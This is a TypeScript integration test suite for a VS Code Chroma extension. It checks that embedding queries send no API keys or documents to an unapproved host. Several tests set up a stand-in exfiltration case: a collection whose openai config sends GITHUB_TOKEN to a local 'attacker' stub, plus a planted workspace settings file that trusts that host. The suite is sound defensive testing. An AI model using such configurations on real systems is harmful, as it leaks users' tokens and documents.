import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { ChromaClient } from '../../src/chroma';
import { Commands } from '../../src/platform/commandIds';
import type { QueryRun } from '../../src/query/core/spec';
import { createDefaultEmbeddingFunction } from '../../src/embedding/core/defaultFunction';
import type { CollectionNode, DatabaseNode } from '../../src/explorer/core/model';
import { ChromaServer } from '../support/chromaServer';
import { QuickInputDriver } from './quickInputDriver';
import { activateApi, answerModals, captureMessages, clearConnections, installTinyModel, until } from './support';
import { embeddingsAnswer, HttpStub } from '../support/httpStub';

/**
 * Answers the extension's modal warnings in turn from `answers` (undefined = Cancel), recording each message, its
 * modal flag and its buttons. A modal dialog blocks the window and cannot be clicked from the extension host, so
 * this stands in for the click at the VS Code API the extension calls.
 */
function answerModalsInTurn(answers: Array<string | undefined>): { asked: Array<{ message: string; modal: boolean; buttons: string[] }>; dispose(): void } {
  const w = vscode.window as unknown as Record<string, unknown>;
  const original = vscode.window.showWarningMessage;
  const out = {
    asked: [] as Array<{ message: string; modal: boolean; buttons: string[] }>,
    dispose: () => {
      w.showWarningMessage = original;
    },
  };
  w.showWarningMessage = (message: string, options?: vscode.MessageOptions, ...buttons: string[]) => {
    out.asked.push({ message, modal: options?.modal === true, buttons });
    return Promise.resolve(answers.shift());
  };
  return out;
}

const DOCS = ['the cat sat on the mat', 'chroma is a vector database for embeddings', 'python and node client code', 'hello world'];

describe('embedding: query a collection with its own embedding function, in real VS Code', () => {
  let server: ChromaServer;
  before(async function () {
    this.timeout(120_000);
    await installTinyModel();
    server = await ChromaServer.start();
    const client = new ChromaClient({ url: server.url });
    const ef = createDefaultEmbeddingFunction();
    const embeddings = await ef.embed(DOCS);
    const withDefault = await client.createCollection({ name: 'with-default', configuration: { embedding_function: { type: 'known', name: 'default', config: {} } } });
    await client.add(withDefault, { ids: DOCS.map((_, i) => `d${i}`), documents: DOCS, embeddings });
    const legacy = await client.createCollection({ name: 'legacy-notes' });
    await client.add(legacy, { ids: DOCS.map((_, i) => `l${i}`), documents: DOCS, embeddings });
  });
  after(async () => {
    await clearConnections();
    await server?.stop();
  });

  async function collection(name: string): Promise<CollectionNode> {
    const api = await activateApi();
    await clearConnections();
    await api.store.save({ name: 'embed', url: server.url }, { secret: null });
    const conn = api.model.roots()[0];
    const db = (await api.model.children(conn)).find((n) => n.kind === 'database') as DatabaseNode;
    return (await api.model.children(db)).find((n) => n.kind === 'collection' && n.collection.name === name) as CollectionNode;
  }

  it('"Query…" embeds the text with the collection\'s stored function and shows the nearest records', async () => {
    const node = await collection('with-default');
    const result = await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'a vector database for embeddings');
    assert.equal(result.hits[0].id, 'd1');
    assert.equal(result.embeddedWith, 'default');
    // the results view shows the query and its hits
    const view = (await activateApi()).features().query.view;
    const [header, first] = view.getChildren();
    assert.equal(view.getTreeItem(header).label, '“a vector database for embeddings”');
    assert.equal(view.getTreeItem(first).label, '1. d1');
    assert.match(String(view.getTreeItem(first).description), /^\d\.\d{4} · chroma is a vector database/);
  });

  it('a collection without a stored function asks once which one, and remembers it', async () => {
    const node = await collection('legacy-notes');
    const driver = new QuickInputDriver();
    try {
      const done = vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'the cat on the mat');
      const pick = await driver.pick({ label: /^default$/ });
      assert.match(pick.placeholder ?? '', /stores no embedding function/);
      assert.ok(pick.labels.includes('openai') && pick.labels.includes('ollama'));
      const first = await done;
      assert.equal(first.hits[0].id, 'l0');
      // remembered: the second query asks nothing
      const second = await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'hello world');
      assert.equal(second.hits[0].id, 'l3');
    } finally {
      driver.dispose();
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    }
  });

  describe('keys go only where the user agreed', () => {
    let attacker: HttpStub;
    let other: HttpStub;
    const saved: Record<string, string | undefined> = {};
    const VARS = ['GITHUB_TOKEN', 'CHROMA_OPENAI_API_KEY', 'OPENAI_API_KEY'];
    before(async () => {
      attacker = await HttpStub.start(embeddingsAnswer);
      other = await HttpStub.start(embeddingsAnswer);
      for (const v of VARS) {
        saved[v] = process.env[v];
        delete process.env[v];
      }
      const client = new ChromaClient({ url: server.url });
      const openai = (api_base: string, extra: Record<string, unknown> = {}) => ({
        embedding_function: { type: 'known', name: 'openai', config: { model_name: 'text-embedding-3-small', api_base, ...extra } },
      });
      await client.createCollection({ name: 'exfil', configuration: openai(`${attacker.origin}/v1`, { api_key_env_var: 'GITHUB_TOKEN' }) });
      await client.createCollection({ name: 'typed-key', configuration: openai(`${other.origin}/v1`, { api_key_env_var: 'OPENAI_API_KEY' }) });
      await client.createCollection({ name: 'typed-key-elsewhere', configuration: openai(`${attacker.origin}/v1`, { api_key_env_var: 'OPENAI_API_KEY' }) });
    });
    after(async () => {
      for (const v of VARS) {
        if (saved[v] === undefined) {
          delete process.env[v];
        } else {
          process.env[v] = saved[v];
        }
      }
      await attacker?.stop();
      await other?.stop();
    });

    it('{openai, api_base: another host, api_key_env_var: GITHUB_TOKEN}: Query… sends nothing until the user allows it in modals, then only that key', async () => {
      process.env.GITHUB_TOKEN = 'ghp_host_test_secret';
      const node = await collection('exfil');
      const messages = captureMessages();
      const cancel = answerModalsInTurn([undefined]);
      try {
        const result = await vscode.commands.executeCommand<QueryRun | undefined>(Commands.queryCollection, node, 'secret plans');
        assert.equal(result, undefined);
      } finally {
        cancel.dispose();
        messages.dispose();
      }
      assert.deepEqual(cancel.asked, [{ message: 'Collection "exfil" asks to read the environment variable GITHUB_TOKEN as its openai key.', modal: true, buttons: ['Allow'] }]);
      assert.equal(attacker.seen.length, 0);
      assert.match(messages.errors.at(-1) ?? '', /^Nothing was sent: reading GITHUB_TOKEN as the openai key was not allowed\./);
      assert.ok(!messages.errors.some((m) => m.includes('ghp_host_test_secret')));

      const allow = answerModalsInTurn(['Allow', 'Allow']);
      try {
        const result = await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'secret plans');
        assert.deepEqual(result.hits, []);
      } finally {
        allow.dispose();
      }
      // Reading the variable is one question; the documents and the key going to that host, one more.
      assert.deepEqual(
        allow.asked.map((a) => `${a.message} modal=${String(a.modal)} ${a.buttons.join('/')}`),
        [
          'Collection "exfil" asks to read the environment variable GITHUB_TOKEN as its openai key. modal=true Allow',
          `Collection "exfil" asks to send your documents to ${attacker.origin} to be embedded, with the key from GITHUB_TOKEN. modal=true Allow`,
        ],
      );
      assert.equal(attacker.seen.length, 1);
      assert.equal(attacker.seen[0].headers.authorization, 'Bearer ghp_host_test_secret');

      // Remembered in globalState: no more dialogs.
      const again = answerModalsInTurn([]);
      try {
        await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'more plans');
      } finally {
        again.dispose();
      }
      assert.equal(again.asked.length, 0);
      assert.equal(attacker.seen.length, 2);

      // Forget Embedding Approvals…: after it, the same query asks again, and Cancel sends nothing.
      const forget = answerModalsInTurn(['Forget']);
      try {
        assert.equal(await vscode.commands.executeCommand<number>(Commands.forgetEmbeddingApprovals), 3);
      } finally {
        forget.dispose();
      }
      assert.match(forget.asked[0]?.message ?? '', /^Forget 3 embedding approvals\?$/);
      const asksAgain = answerModalsInTurn([undefined]);
      try {
        await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'plans again');
      } finally {
        asksAgain.dispose();
      }
      assert.equal(asksAgain.asked.length, 1);
      assert.equal(attacker.seen.length, 2);
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    });

    it('a key typed for one host is kept for that host only: another host asks again, and Cancel sends nothing', async () => {
      const driver = new QuickInputDriver();
      // Each host first asks whether the documents may go there (Allow), then for its key.
      const modals = answerModalsInTurn(['Allow', 'Allow']);
      const before = attacker.seen.length;
      try {
        const done = vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, await collection('typed-key'), 'hello');
        const typed = await driver.input('sk-typed-for-other');
        assert.match(typed.prompt ?? '', new RegExp(`^Collection "typed-key" sends this key to ${other.origin.replace(/\./g, '\\.')}\\.`));
        await done;
        assert.equal(other.seen.at(-1)?.headers.authorization, 'Bearer sk-typed-for-other');
        // Saved: the same collection asks nothing the second time.
        await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, await collection('typed-key'), 'hello again');
        assert.equal(other.seen.at(-1)?.headers.authorization, 'Bearer sk-typed-for-other');

        const elsewhere = vscode.commands.executeCommand<QueryRun | undefined>(Commands.queryCollection, await collection('typed-key-elsewhere'), 'hello');
        const box = (await driver.next()) as vscode.InputBox;
        assert.match(box.prompt ?? '', new RegExp(`sends this key to ${attacker.origin.replace(/\./g, '\\.')}\\.`));
        await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
        assert.equal(await elsewhere, undefined);
        assert.equal(attacker.seen.length, before);
        assert.deepEqual(modals.asked.map((a) => a.message), [
          `Collection "typed-key" asks to send your documents to ${other.origin} to be embedded.`,
          `Collection "typed-key-elsewhere" asks to send your documents to ${attacker.origin} to be embedded.`,
        ]);
      } finally {
        modals.dispose();
        driver.dispose();
        await vscode.commands.executeCommand('workbench.action.closeAllEditors');
      }
    });
  });

  describe('documents go only to a host the user allowed', () => {
    let recorder: HttpStub;
    before(async () => {
      recorder = await HttpStub.start(embeddingsAnswer);
      const client = new ChromaClient({ url: server.url });
      await client.createCollection({
        name: 'ollama-notes',
        configuration: { embedding_function: { type: 'known', name: 'ollama', config: { url: recorder.url, model_name: 'nomic-embed-text' } } },
      });
    });
    after(async () => {
      await recorder?.stop();
    });

    /** Runs Forget Embedding Approvals… and answers its modal with Forget. */
    async function forgetApprovals(): Promise<{ count: number | undefined; asked: string[]; infos: string[] }> {
      const modal = answerModals('Forget');
      const messages = captureMessages();
      try {
        const count = await vscode.commands.executeCommand<number>(Commands.forgetEmbeddingApprovals);
        return { count, asked: modal.asked, infos: messages.infos };
      } finally {
        modal.dispose();
        messages.dispose();
      }
    }

    it('{ollama, url: a recording server}: Query… sends no text until the user allows it in a modal; remembered; Forget Embedding Approvals… asks again', async () => {
      await forgetApprovals(); // what earlier tests allowed
      const node = await collection('ollama-notes');
      const question = `Collection "ollama-notes" asks to send your documents to ${recorder.origin} to be embedded.`;

      const messages = captureMessages();
      const cancel = answerModalsInTurn([undefined]);
      try {
        assert.equal(await vscode.commands.executeCommand<QueryRun | undefined>(Commands.queryCollection, node, 'secret plans'), undefined);
      } finally {
        cancel.dispose();
        messages.dispose();
      }
      assert.deepEqual(cancel.asked, [{ message: question, modal: true, buttons: ['Allow'] }]);
      assert.equal(recorder.seen.length, 0);
      assert.equal(
        messages.errors.at(-1),
        `Nothing was sent: your documents may not go to ${recorder.origin}, which the collection's url names. If you trust that host, try again and choose Allow; otherwise fix the url in the collection's embedding configuration.`,
      );

      const allow = answerModalsInTurn(['Allow']);
      try {
        const result = await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'secret plans');
        assert.equal(result.embeddedWith, 'ollama');
      } finally {
        allow.dispose();
      }
      assert.deepEqual(allow.asked.map((a) => a.message), [question]);
      assert.deepEqual(recorder.seen.map((r) => [r.method, r.path, r.body]), [['POST', '/api/embed', { model: 'nomic-embed-text', input: ['secret plans'] }]]);

      // Remembered in globalState: no more dialogs.
      const again = answerModalsInTurn([]);
      try {
        await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'more plans');
      } finally {
        again.dispose();
      }
      assert.equal(again.asked.length, 0);
      assert.equal(recorder.seen.length, 2);

      const forgot = await forgetApprovals();
      assert.equal(forgot.count, 1);
      assert.equal(forgot.asked.length, 1);
      assert.match(forgot.asked[0], /^Forget 1 embedding approval\? modal=true detail=1 host allowed to receive your documents\. Collections that send your documents or a key/);
      assert.deepEqual(forgot.infos, ['Forgot 1 embedding approval (1 host allowed to receive your documents): the next use asks again.']);

      const asksAgain = answerModalsInTurn([undefined]);
      try {
        assert.equal(await vscode.commands.executeCommand<QueryRun | undefined>(Commands.queryCollection, node, 'plans again'), undefined);
      } finally {
        asksAgain.dispose();
      }
      assert.deepEqual(asksAgain.asked.map((a) => a.message), [question]);
      assert.equal(recorder.seen.length, 2);
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    });

    it('chroma.embedding.trustedHosts: in the user settings the text goes with no modal; the same list in the workspace\'s .vscode/settings.json counts for nothing', async () => {
      await forgetApprovals();
      const node = await collection('ollama-notes');
      const question = `Collection "ollama-notes" asks to send your documents to ${recorder.origin} to be embedded.`;
      const sent = recorder.seen.length;
      const config = () => vscode.workspace.getConfiguration();
      const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, '.vscode', 'settings.json');
      // A cloned repository's settings name the host (and a window setting beside it, to see when VS Code read them).
      await vscode.workspace.fs.writeFile(file, Buffer.from(JSON.stringify({ 'chroma.embedding.trustedHosts': [recorder.origin], 'chroma.query.nResults': 7 })));
      try {
        await until(() => config().get<number>('chroma.query.nResults') === 7, 'the workspace settings to be read');
        const cancel = answerModalsInTurn([undefined]);
        try {
          assert.equal(await vscode.commands.executeCommand<QueryRun | undefined>(Commands.queryCollection, node, 'secret plans'), undefined);
        } finally {
          cancel.dispose();
        }
        assert.deepEqual(cancel.asked.map((a) => a.message), [question]);
        assert.equal(recorder.seen.length, sent);
      } finally {
        await vscode.workspace.fs.delete(file);
        await until(() => config().get<number>('chroma.query.nResults') !== 7, 'the workspace settings to be gone');
      }

      await config().update('chroma.embedding.trustedHosts', [recorder.origin], vscode.ConfigurationTarget.Global);
      try {
        const none = answerModalsInTurn([]);
        try {
          const result = await vscode.commands.executeCommand<QueryRun>(Commands.queryCollection, node, 'trusted plans');
          assert.equal(result.embeddedWith, 'ollama');
        } finally {
          none.dispose();
        }
        assert.deepEqual(none.asked, []);
        assert.deepEqual(recorder.seen.slice(sent).map((r) => r.body), [{ model: 'nomic-embed-text', input: ['trusted plans'] }]);
        assert.equal((await forgetApprovals()).count, 0, 'trust in the settings is not a remembered approval');
      } finally {
        await config().update('chroma.embedding.trustedHosts', undefined, vscode.ConfigurationTarget.Global);
        await vscode.commands.executeCommand('workbench.action.closeAllEditors');
      }
    });
  });
});
